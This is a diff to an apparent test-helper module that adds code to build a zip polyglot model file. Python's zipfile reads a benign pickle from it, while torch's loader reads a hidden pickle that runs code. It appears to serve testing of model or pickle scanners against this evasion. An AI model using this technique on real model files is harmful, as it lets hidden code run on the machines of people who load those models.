@@ -326,3 +326,35 @@ def legacy_torch_tar(storages: bytes) -> bytes:
             info.size = len(data)
             tf.addfile(info, io.BytesIO(data))
     return buf.getvalue()
+
+
+def _zip_entries(members: list[tuple[bytes, bytes]], *, deflate: bool) -> tuple[bytes, bytes]:
+    """(local headers and data, central directory) of a zip whose offsets start at 0."""
+    import zlib
+
+    local, central = b"", b""
+    for name, data in members:
+        body = zlib.compress(data)[2:-4] if deflate else data
+        method, crc = (8 if deflate else 0), zlib.crc32(data)
+        sizes = (crc, len(body), len(data), len(name))
+        central += struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, method, 0, 0, *sizes,
+                               0, 0, 0, 0, 0, len(local)) + name  # fmt: skip
+        local += struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, method, 0, 0, *sizes, 0)
+        local += name + body
+    return local, central
+
+
+def zip_prepended_for_torch(marker: str) -> bytes:
+    """Bytes before a zip whose offsets start at its own first byte: zipfile shifts every
+    offset by them and reads the benign data.pkl at the end; torch's reader (miniz) takes
+    the offsets as written and finds, at the start, a second archive whose data.pkl runs code."""
+    benign = b"\x80\x02}q\x00X\x01\x00\x00\x00wX" + struct.pack("<I", 400) + b"x" * 400 + b"s."
+    evil = [(b"archive/data.pkl", evil_pickle(marker)), (b"archive/version", b"3\n")]
+    honest = [(b"archive/data.pkl", benign), (b"archive/version", b"3\n")]
+    evil_local, evil_central = _zip_entries(evil, deflate=True)
+    local, central = _zip_entries(honest, deflate=False)
+    assert len(evil_central) == len(central) and len(evil_local) <= len(local)
+    # miniz reads the central directory at the offset the end record gives, from byte 0
+    head = evil_local + b"\0" * (len(local) - len(evil_local)) + evil_central + b"\0" * 16
+    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 2, 2, len(central), len(local), 0)
+    return head + local + central + end
